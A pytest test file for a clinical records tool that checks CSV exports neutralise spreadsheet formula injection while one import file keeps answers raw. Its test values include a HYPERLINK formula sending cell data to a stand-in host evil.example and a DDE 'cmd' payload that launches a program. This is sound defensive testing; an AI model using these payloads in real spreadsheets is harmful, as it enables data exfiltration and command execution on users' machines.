"""Issue 11.9: formula safety, decided. Files meant for a spreadsheet (the call sheet, the opt-out
list, reports) neutralise a cell beginning with = + - @ through one helper; the FLS-DB import
CSV keeps answers raw, because the webtool needs them so (a T-score of -2.7 is a number)."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path

import pytest

from flsdesk import session, spreadsheet
from flsdesk.cli import main
from flsdesk.exchange import export as ex
from flsdesk.exchange import optout as oo
from flsdesk.paths import resolve
from flsdesk.store.store import Store
from tests.helpers.conftest_records import (  # noqa: F401  (fixtures)
    clock_fixture,
    complete_answers,
    nhs_number,
    paths_fixture,
    store_fixture,
)
from tests.helpers.export_records import golden_records

PASSPHRASE = "correct horse battery staple"
ON = date(2025, 6, 2)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Call")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700", "'+44 7700"),
        ("-2.7", "'-2.7"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann O'Neil", "Ann O'Neil"),
        ("9434765919", "9434765919"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell(value: object, expected: str) -> None:
    assert spreadsheet.safe_cell(value) == expected


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_text_neutralises_every_cell() -> None:
    text = spreadsheet.csv_text([["Name", "Note"], [HOSTILE_NAME, "-1"], ["x", "@y"]])
    assert text.endswith("\r\n")
    assert _cells(text) == [["Name", "Note"], ["'" + HOSTILE_NAME, "'-1"], ["x", "'@y"]]


def test_the_call_sheet_from_the_command_line(tmp_path: Path, monkeypatch, capsys) -> None:
    paths = resolve(None)
    created = session.create(paths, PASSPHRASE, "AB", "Northtown FLS", "RXX01")
    created.store.new_record(
        {
            "1.01": "9434765919",
            "1.02": "1944-05-06",
            "1.03": "Female",
            "1.09": (ON - timedelta(days=90)).isoformat(),
            "1.11": "Hip",
            "4.01": ["Alendronate"],
            "name": HOSTILE_NAME,
            "hospital_number": "+RX123",
        }
    )
    created.store.close()
    monkeypatch.setenv("FLSDESK_PASSPHRASE", PASSPHRASE)
    out = tmp_path / "calls.csv"
    assert main(["followups", "--on", ON.isoformat(), "--csv", str(out)]) == 0
    rows = _cells(out.read_text(encoding="utf-8-sig"))
    header = rows[0]
    [row] = [r for r in rows[1:] if r[header.index("NHS number")].replace(" ", "") == "9434765919"]
    assert row[header.index("Name")] == "'" + HOSTILE_NAME
    assert row[header.index("Hospital number")] == "'+RX123"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_the_opt_out_list_goes_through_the_helper(
    store: Store, tmp_path: Path, monkeypatch
) -> None:
    store.new_record(complete_answers(nhs_number(300000001)))
    target = tmp_path / "optout.csv"
    oo.write_unchecked_list(store, target)
    assert _cells(target.read_text(encoding="utf-8")) == [["NHS number"], [nhs_number(300000001)]]
    # The list's cells are NHS numbers only, which never start with a formula character; the
    # header is the one text cell: were it ever made a formula, it would be neutralised.
    monkeypatch.setattr(oo, "LIST_HEADER", "=cmd|' /C calc'!A0")
    oo.write_unchecked_list(store, target)
    assert _cells(target.read_text(encoding="utf-8"))[0] == ["'=cmd|' /C calc'!A0"]


def test_the_fls_db_export_keeps_answers_raw(store: Store, tmp_path: Path) -> None:
    record = golden_records()[0]
    record["1.04"] = "-AB1"  # a text answer beginning with a formula character
    assert record["3.04"] == -2.7
    store.new_record(record)
    plan = ex.prepare(store, ex.Scope.all())
    assert len(plan.going) == 1, [r.reason for r in plan.held_back]
    result = ex.write(store, plan, tmp_path / "fls.csv")
    text = (tmp_path / "fls.csv").read_bytes().decode("utf-8-sig", errors="replace")
    assert "-2.7" in text and "'-2.7" not in text
    assert "-AB1" in text and "'-AB1" not in text
    assert result.records == 1
